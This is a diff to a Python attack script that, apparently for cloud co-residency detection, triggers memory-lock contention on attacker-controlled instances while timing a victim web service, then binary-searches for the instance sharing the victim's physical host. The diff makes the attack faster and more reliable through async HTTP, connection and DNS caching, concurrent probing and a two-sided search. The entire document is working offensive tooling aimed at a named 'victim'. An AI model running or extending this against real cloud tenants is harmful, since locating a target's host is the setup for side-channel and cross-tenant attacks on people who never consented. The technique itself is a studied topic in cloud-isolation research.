@@ -35,14 +35,53 @@ Algorithm:
 """
 
 import argparse
-import concurrent.futures
+import array
+import asyncio
 import json
-import statistics
+import socket
+import ssl
 import sys
 import time
-from typing import List, Dict, Any
+from typing import List, Dict, Any, Optional, Tuple
 
-import requests
+import httpx
+import numpy
+
+# One TLS context for every connection in the process. OpenSSL keeps its
+# client session cache on the context, so repeat handshakes to the same
+# host resume the prior session (1 RTT, symmetric crypto only) instead of
+# redoing the full asymmetric exchange.
+_TLS_CONTEXT = ssl.create_default_context()
+_TLS_CONTEXT.set_alpn_protocols(["h2", "http/1.1"])
+
+
+# ---------------------------------------------------------------------------
+# DNS caching
+# ---------------------------------------------------------------------------
+
+# /lock hits the same ~N attacker hosts O(log N) times during the binary
+# search, and the victim host on every probe; without a cache each request
+# may pay a fresh getaddrinfo round trip to the resolver. Entries expire
+# after 15 minutes so instance redeployments are eventually picked up.
+_DNS_TTL_SECONDS = 900.0
+_DNS_CACHE: Dict[Tuple, Tuple[float, list]] = {}
+_real_getaddrinfo = socket.getaddrinfo
+
+
+def _cached_getaddrinfo(host, port, *args, **kwargs):
+    key = (host, port, args, tuple(sorted(kwargs.items())))
+    now = time.monotonic()
+    hit = _DNS_CACHE.get(key)
+    if hit is not None and hit[0] > now:
+        return hit[1]
+    result = _real_getaddrinfo(host, port, *args, **kwargs)
+    _DNS_CACHE[key] = (now + _DNS_TTL_SECONDS, result)
+    return result
+
+
+def install_dns_cache() -> None:
+    """Route all name resolution in this process through the TTL cache."""
+    socket.getaddrinfo = _cached_getaddrinfo
 
 
 # ---------------------------------------------------------------------------
@@ -97,7 +136,25 @@ def parse_args() -> argparse.Namespace:
         "--lock-warmup",
         type=float,
         default=0.1,
-        help="Sleep (seconds) after triggering /lock before probing the victim (default: 0.1).",
+        help="Delay (seconds) between dispatching the /lock requests and "
+             "probing the victim, so cold connections finish their handshakes "
+             "and the remote lock binaries actually start (default: 0.1). "
+             "Set to 0 only when the pool is known to be warm.",
+    )
+    parser.add_argument(
+        "--concurrent-probes",
+        action="store_true",
+        help="Issue the probe-runs victim requests concurrently instead of "
+             "one at a time. Concurrent batches cost roughly one RTT total "
+             "but include self-induced queueing at the victim, so the "
+             "latency threshold must be calibrated in the same mode.",
+    )
+    parser.add_argument(
+        "--sequential",
+        action="store_true",
+        help="Probe CPU sets one at a time during candidate search. Use this "
+             "when sets share attacker instances or the victim cannot tolerate "
+             "concurrent lock load; by default all sets are probed concurrently.",
     )
     return parser.parse_args()
 
@@ -112,100 +169,132 @@ def build_endpoint(base_url: str, endpoint: str) -> str:
     return f"{base}/{ep}"
 
 
-def measure_victim_latency(
+async def measure_victim_latency(
+    client: httpx.AsyncClient,
     victim_url: str,
     runs: int,
     timeout: float,
+    concurrent: bool = False,
 ) -> float:
     """
     Send `runs` HTTP GET requests to victim_url and return the median latency in seconds.
+
+    All requests go through the shared client so the timing reflects the
+    victim's service time on a warm connection, not handshake cost.
+    Requests are issued one at a time by default, so every sample is a
+    clean per-request latency. With concurrent=True the whole batch is
+    issued at once — roughly one RTT plus service time instead of runs
+    RTTs — but the samples then include self-induced queueing at the
+    victim; the two modes measure different statistics, so a latency
+    threshold calibrated in one is not comparable in the other.
     """
-    latencies = []
-    for i in range(runs):
+
+    async def timed_get(i: int) -> Optional[float]:
         start = time.perf_counter()
         try:
-            resp = requests.get(victim_url, timeout=timeout)
+            resp = await client.get(victim_url, timeout=timeout)
             resp.raise_for_status()
-        except requests.RequestException as e:
+        except httpx.HTTPError as e:
             print(f"[WARN] Victim request failed on run {i+1}/{runs}: {e}", file=sys.stderr)
-            latencies.append(float("inf"))
-            continue
-        end = time.perf_counter()
-        latencies.append(end - start)
-
-    finite_latencies = [x for x in latencies if x != float("inf")]
-    if not finite_latencies:
+            return None
+        return time.perf_counter() - start
+
+    if concurrent:
+        results = await asyncio.gather(*(timed_get(i) for i in range(runs)))
+    else:
+        results = [await timed_get(i) for i in range(runs)]
+
+    # Failed runs are simply not recorded, so no inf sentinels need
+    # filtering; the compact double array feeds numpy's C-level selection.
+    latencies = array.array("d", (x for x in results if x is not None))
+    if not latencies:
         print("[ERROR] All victim requests failed; cannot compute latency.", file=sys.stderr)
         return float("inf")
 
-    return statistics.median(finite_latencies)
+    # Median via partition-based selection: O(n) instead of a full
+    # O(n log n) sort, which matters once probe_runs is raised into the
+    # hundreds for noise robustness.
+    arr = numpy.frombuffer(latencies, dtype=numpy.float64)
+    k = arr.size // 2
+    if arr.size % 2:
+        return float(numpy.partition(arr, k)[k])
+    part = numpy.partition(arr, (k - 1, k))
+    return float((part[k - 1] + part[k]) / 2.0)
 
 
-def trigger_lock_async(
+def trigger_lock_tasks(
+    client: httpx.AsyncClient,
     instance_urls: List[str],
-    lock_endpoint: str,
+    lock_urls: Dict[str, str],
     timeout: float,
-):
+) -> List[asyncio.Task]:
     """
-    Trigger /lock concurrently on all given instance URLs.
+    Launch /lock requests on all given instance URLs as asyncio tasks.
 
-    We do not block on the full duration of the lock operation; we just fire
-    the HTTP requests so the underlying lock workload runs while we probe the victim.
+    We do not block on the full duration of the lock operation; the tasks run
+    on the shared client's warm connection pool while we probe the victim,
+    and the caller awaits them once the measurement is done so the
+    connections return to the pool intact.
     """
-    if not instance_urls:
-        return None, []
-
-    def call_lock(url: str):
-        full_url = build_endpoint(url, lock_endpoint)
-        try:
-            resp = requests.get(full_url, timeout=timeout)
-            return (url, resp.status_code, None)
-        except requests.RequestException as e:
-            return (url, None, str(e))
-
-    workers = max(1, len(instance_urls))
-    executor = concurrent.futures.ThreadPoolExecutor(max_workers=workers)
-    futures = [executor.submit(call_lock, u) for u in instance_urls]
-    return executor, futures
+    return [
+        asyncio.create_task(client.get(lock_urls[u], timeout=timeout))
+        for u in instance_urls
+    ]
 
 
-def measure_latency_with_lock(
+async def measure_latency_with_lock(
+    client: httpx.AsyncClient,
     instance_urls: List[str],
-    lock_endpoint: str,
+    lock_urls: Dict[str, str],
     victim_url: str,
     probe_runs: int,
     victim_timeout: float,
     lock_timeout: float,
     lock_warmup: float,
+    concurrent_probes: bool = False,
 ) -> float:
     """
-    1) Trigger /lock on all instance_urls concurrently (async).
-    2) Sleep lock_warmup seconds to allow contention to take effect.
+    1) Trigger /lock on all instance_urls concurrently as tasks.
+    2) Wait lock_warmup seconds so the lock requests clear connection
+       setup and the remote lock binaries actually start.
     3) Measure victim median latency over probe_runs requests.
-    4) Shutdown the executor without waiting for all lock calls to finish.
+    4) Await the lock responses (bounded by lock_timeout) so their
+       connections go back to the pool warm; only stragglers past the
+       timeout are cancelled.
+
+    A bare event-loop yield is not enough before probing: on a cold
+    connection the first tick only advances each lock task into its
+    TCP/TLS handshake, and the whole victim measurement can finish before
+    any lock binary runs. The small default warmup covers handshake plus
+    dispatch; it can be lowered explicitly on a known-warm pool.
     """
     if not instance_urls:
         # No attackers -> just measure victim as-is
-        return measure_victim_latency(victim_url, probe_runs, victim_timeout)
-
-    executor, futures = trigger_lock_async(instance_urls, lock_endpoint, lock_timeout)
+        return await measure_victim_latency(
+            client, victim_url, probe_runs, victim_timeout, concurrent_probes
+        )
 
-    time.sleep(lock_warmup)
+    tasks = trigger_lock_tasks(client, instance_urls, lock_urls, lock_timeout)
 
-    median_latency = measure_victim_latency(victim_url, probe_runs, victim_timeout)
+    # Give the lock requests time to get past connection setup and start
+    # the remote binaries; a zero sleep would only yield one loop tick,
+    # which on a cold connection is the handshake, not the request send.
+    await asyncio.sleep(lock_warmup)
 
-    if executor is not None:
-        executor.shutdown(wait=False)
+    median_latency = await measure_victim_latency(
+        client, victim_url, probe_runs, victim_timeout, concurrent_probes
+    )
 
-    # Optional: log lock results
-    for fut in futures:
-        if not fut.done():
-            continue
-        url, status_code, err = fut.result()
-        if err is not None:
-            print(f"[WARN] /lock failed for {url}: {err}", file=sys.stderr)
-        else:
-            print(f"[INFO] /lock completed for {url} with status {status_code}")
+    # Let the in-flight lock responses finish rather than cancelling them:
+    # the responses are almost always mid-flight here (the lock runs for
+    # seconds server-side), and a cancel closes the connection, forcing
+    # the next step to re-handshake the very pool this function keeps
+    # warm. Only stragglers past lock_timeout are cancelled.
+    _, pending = await asyncio.wait(tasks, timeout=lock_timeout)
+    for t in pending:
+        t.cancel()
+    # Reap everything (including any request errors) so no tasks leak
+    await asyncio.gather(*tasks, return_exceptions=True)
 
     return median_latency
 
@@ -250,166 +339,263 @@ def load_cpu_sets(path: str) -> List[Dict[str, Any]]:
     return cpu_sets
 
 
-def find_candidate_set(
+async def find_candidate_set(
+    client: httpx.AsyncClient,
     cpu_sets: List[Dict[str, Any]],
     victim_url: str,
-    lock_endpoint: str,
+    lock_urls: Dict[str, str],
     latency_threshold: float,
     probe_runs: int,
     victim_timeout: float,
     lock_timeout: float,
     lock_warmup: float,
+    sequential: bool = False,
+    concurrent_probes: bool = False,
 ) -> int:
     """
-    Iterate over cpu_sets and find the first set that causes the victim's
-    median latency to exceed latency_threshold when all its instances run mem-lock.
+    Find a set that causes the victim's median latency to exceed
+    latency_threshold when all its instances run mem-lock.
+
+    By default all sets are probed concurrently as a cheap pre-filter.
+    The sets hold disjoint attacker instances, but they all measure the
+    same victim, so one co-resident set inflates every simultaneous
+    probe; the pre-filter therefore only ranks the sets that crossed the
+    threshold by margin, and each is confirmed with a solo re-probe
+    (only that set locking) before it is accepted. With sequential=True
+    the sets are probed strictly one at a time from the start.
 
     Returns the index of the candidate set in cpu_sets or -1 if none qualifies.
     """
-    for idx, cpu_set in enumerate(cpu_sets):
+
+    async def probe_set(idx: int, cpu_set: Dict[str, Any]) -> Tuple[int, float]:
         instances = cpu_set.get("instances", [])
         cpu_brand = cpu_set.get("cpu_brand")
         parsed_freq = cpu_set.get("parsed_freq")
 
-        if not instances:
-            print(f"[INFO] Skipping CPU set {idx}: empty instance list.")
-            continue
-
         print(
             f"\n[INFO] Testing CPU set {idx}: brand='{cpu_brand}', parsed_freq={parsed_freq}, "
             f"{len(instances)} instances"
         )
 
-        probed_median = measure_latency_with_lock(
+        probed_median = await measure_latency_with_lock(
+            client=client,
             instance_urls=instances,
-            lock_endpoint=lock_endpoint,
+            lock_urls=lock_urls,
             victim_url=victim_url,
             probe_runs=probe_runs,
             victim_timeout=victim_timeout,
             lock_timeout=lock_timeout,
             lock_warmup=lock_warmup,
+            concurrent_probes=concurrent_probes,
         )
 
         print(
             f"[RESULT] CPU set {idx}: median latency with full-set lock = "
             f"{probed_median:.6f}s (threshold={latency_threshold:.6f}s)"
         )
+        return idx, probed_median
+
+    populated = []
+    for idx, cpu_set in enumerate(cpu_sets):
+        if cpu_set.get("instances"):
+            populated.append((idx, cpu_set))
+        else:
+            print(f"[INFO] Skipping CPU set {idx}: empty instance list.")
 
-        if is_above_threshold(probed_median, latency_threshold):
-            print(f"[INFO] CPU set {idx} selected as candidate set for binary search.")
-            return idx
+    if sequential:
+        for idx, cpu_set in populated:
+            idx, probed_median = await probe_set(idx, cpu_set)
+            if is_above_threshold(probed_median, latency_threshold):
+                print(f"[INFO] CPU set {idx} selected as candidate set for binary search.")
+                return idx
+    else:
+        # Concurrent pass: every probe here observes the same victim, so
+        # whichever set actually co-resides inflates all of them at once.
+        # The results are only trusted as a ranking; each surviving set
+        # must still pass a solo re-probe below with no other locks held.
+        tasks = [
+            asyncio.create_task(probe_set(idx, cpu_set)) for idx, cpu_set in populated
+        ]
+        results = await asyncio.gather(*tasks)
+
+        passing = sorted(
+            (r for r in results if is_above_threshold(r[1], latency_threshold)),
+            key=lambda r: r[1],
+            reverse=True,
+        )
+        sets_by_idx = dict(populated)
+        for idx, _ in passing:
+            print(f"[INFO] Confirming CPU set {idx} with a solo re-probe.")
+            _, probed_median = await probe_set(idx, sets_by_idx[idx])
+            if is_above_threshold(probed_median, latency_threshold):
+                print(f"[INFO] CPU set {idx} selected as candidate set for binary search.")
+                return idx
+            print(f"[INFO] CPU set {idx} failed solo confirmation; trying the next.")
 
     print("[WARN] No CPU set caused victim latency to exceed the threshold. Target victim not localized.")
     return -1
 
 
-def binary_search_localization(
+async def binary_search_localization(
+    client: httpx.AsyncClient,
     instances: List[str],
     victim_url: str,
-    lock_endpoint: str,
+    lock_urls: Dict[str, str],
     latency_threshold: float,
     probe_runs: int,
     victim_timeout: float,
     lock_timeout: float,
     lock_warmup: float,
+    concurrent_probes: bool = False,
 ) -> str:
     """
     Perform binary search over `instances` to locate the single instance
-    sharing a server with the victim, using latency_threshold as the decision boundary.
+    sharing a server with the victim.
+
+    Each step probes BOTH halves and keeps the one whose median exceeds the
+    threshold by the larger margin. Probing only the left half infers the
+    right from a single noisy measurement, so one misclassification doubles
+    the experiments needed; with direct evidence from both halves a step
+    survives noise on either probe. The two probes are serialized in time
+    (their lock sets would contend with each other if run together) but
+    share the warm connection pool, so the extra probe costs service time,
+    not handshakes.
 
     Returns:
       The attacker instance URL identified as co-resident (under ideal conditions).
     """
-    candidates = list(instances)
+    # The active window is tracked as (lo, hi) indices into the original
+    # list; halves are sliced out only to go over the wire, so narrowing a
+    # step is two integer assignments instead of rebuilding candidate lists
+    # between the timing-sensitive probe windows.
+    lo, hi = 0, len(instances)
     step = 0
 
-    while len(candidates) > 1:
-        step += 1
-        mid = len(candidates) // 2
-        left = candidates[:mid]
-        right = candidates[mid:]
-
-        print(
-            f"\n[INFO] Binary search step {step}: "
-            f"{len(candidates)} candidates -> testing left half ({len(left)} instances)"
-        )
-
-        probed_median = measure_latency_with_lock(
-            instance_urls=left,
-            lock_endpoint=lock_endpoint,
+    async def probe_half(half: List[str]) -> float:
+        return await measure_latency_with_lock(
+            client=client,
+            instance_urls=half,
+            lock_urls=lock_urls,
             victim_url=victim_url,
             probe_runs=probe_runs,
             victim_timeout=victim_timeout,
             lock_timeout=lock_timeout,
             lock_warmup=lock_warmup,
+            concurrent_probes=concurrent_probes,
         )
 
+    while hi - lo > 1:
+        step += 1
+        mid = (lo + hi) // 2
+        left = instances[lo:mid]
+        right = instances[mid:hi]
+
         print(
-            f"[RESULT] Step {step}: left-half median latency = "
-            f"{probed_median:.6f}s (threshold={latency_threshold:.6f}s)"
+            f"\n[INFO] Binary search step {step}: "
+            f"{hi - lo} candidates -> testing both halves "
+            f"({len(left)} / {len(right)} instances)"
+        )
+
+        left_median = await probe_half(left)
+        right_median = await probe_half(right)
+
+        print(
+            f"[RESULT] Step {step}: left median = {left_median:.6f}s, "
+            f"right median = {right_median:.6f}s (threshold={latency_threshold:.6f}s)"
         )
 
-        if is_above_threshold(probed_median, latency_threshold):
-            print(f"[INFO] Step {step}: latency exceeded threshold; keeping LEFT half.")
-            candidates = left
+        if left_median >= right_median:
+            print(f"[INFO] Step {step}: left half shows the stronger slowdown; keeping LEFT half.")
+            hi = mid
         else:
-            print(f"[INFO] Step {step}: latency below threshold; keeping RIGHT half.")
-            candidates = right
+            print(f"[INFO] Step {step}: right half shows the stronger slowdown; keeping RIGHT half.")
+            lo = mid
 
-    print(f"\n[FINAL] Binary search completed. Suspected co-resident attacker: {candidates[0]}")
-    return candidates[0]
+        if not is_above_threshold(max(left_median, right_median), latency_threshold):
+            print(
+                f"[WARN] Step {step}: neither half exceeded the threshold; "
+                f"continuing with the stronger half, but the signal may be noise."
+            )
+
+    print(f"\n[FINAL] Binary search completed. Suspected co-resident attacker: {instances[lo]}")
+    return instances[lo]
 
 
 # ---------------------------------------------------------------------------
 # Main
 # ---------------------------------------------------------------------------
 
+async def locate(args: argparse.Namespace, cpu_sets: List[Dict[str, Any]]) -> None:
+    """
+    Run the full localization on one persistent client, so every /lock and
+    victim probe across all binary-search steps shares the same warm
+    connection pool.
+    """
+    # The same attacker URL is locked O(log N) times during the search;
+    # build each /lock URL once up front instead of re-deriving it per call.
+    lock_urls = {
+        u: build_endpoint(u, args.lock_endpoint)
+        for cpu_set in cpu_sets
+        for u in cpu_set.get("instances", [])
+    }
+
+    limits = httpx.Limits(max_connections=512, max_keepalive_connections=512)
+    async with httpx.AsyncClient(http2=True, verify=_TLS_CONTEXT, limits=limits) as client:
+        # 2) Find candidate CPU set that pushes victim latency over the threshold
+        candidate_idx = await find_candidate_set(
+            client=client,
+            cpu_sets=cpu_sets,
+            victim_url=args.victim_url,
+            lock_urls=lock_urls,
+            latency_threshold=args.latency_threshold,
+            probe_runs=args.probe_runs,
+            victim_timeout=args.victim_timeout,
+            lock_timeout=args.lock_timeout,
+            lock_warmup=args.lock_warmup,
+            sequential=args.sequential,
+            concurrent_probes=args.concurrent_probes,
+        )
+
+        if candidate_idx < 0:
+            return  # No candidate found
+
+        candidate_set = cpu_sets[candidate_idx]
+        candidate_instances = candidate_set.get("instances", [])
+
+        if len(candidate_instances) == 1:
+            print(
+                f"[FINAL] Candidate CPU set {candidate_idx} has a single instance; "
+                f"co-resident attacker: {candidate_instances[0]}"
+            )
+            return
+
+        # 3) Run binary search inside the candidate set
+        await binary_search_localization(
+            client=client,
+            instances=candidate_instances,
+            victim_url=args.victim_url,
+            lock_urls=lock_urls,
+            latency_threshold=args.latency_threshold,
+            probe_runs=args.probe_runs,
+            victim_timeout=args.victim_timeout,
+            lock_timeout=args.lock_timeout,
+            lock_warmup=args.lock_warmup,
+            concurrent_probes=args.concurrent_probes,
+        )
+
+
 def main():
     args = parse_args()
 
+    install_dns_cache()
+
     # 1) Load attacker CPU sets
     cpu_sets = load_cpu_sets(args.cpu_sets_file)
     print(f"[INFO] Loaded {len(cpu_sets)} CPU sets from {args.cpu_sets_file}")
     print(f"[INFO] Using latency threshold = {args.latency_threshold:.6f}s")
 
-    # 2) Find candidate CPU set that pushes victim latency over the threshold
-    candidate_idx = find_candidate_set(
-        cpu_sets=cpu_sets,
-        victim_url=args.victim_url,
-        lock_endpoint=args.lock_endpoint,
-        latency_threshold=args.latency_threshold,
-        probe_runs=args.probe_runs,
-        victim_timeout=args.victim_timeout,
-        lock_timeout=args.lock_timeout,
-        lock_warmup=args.lock_warmup,
-    )
-
-    if candidate_idx < 0:
-        sys.exit(0)  # No candidate found
-
-    candidate_set = cpu_sets[candidate_idx]
-    candidate_instances = candidate_set.get("instances", [])
-
-    if len(candidate_instances) == 1:
-        print(
-            f"[FINAL] Candidate CPU set {candidate_idx} has a single instance; "
-            f"co-resident attacker: {candidate_instances[0]}"
-        )
-        sys.exit(0)
-
-    # 3) Run binary search inside the candidate set
-    binary_search_localization(
-        instances=candidate_instances,
-        victim_url=args.victim_url,
-        lock_endpoint=args.lock_endpoint,
-        latency_threshold=args.latency_threshold,
-        probe_runs=args.probe_runs,
-        victim_timeout=args.victim_timeout,
-        lock_timeout=args.lock_timeout,
-        lock_warmup=args.lock_warmup,
-    )
+    asyncio.run(locate(args, cpu_sets))
 
 
 if __name__ == "__main__":
     main()
-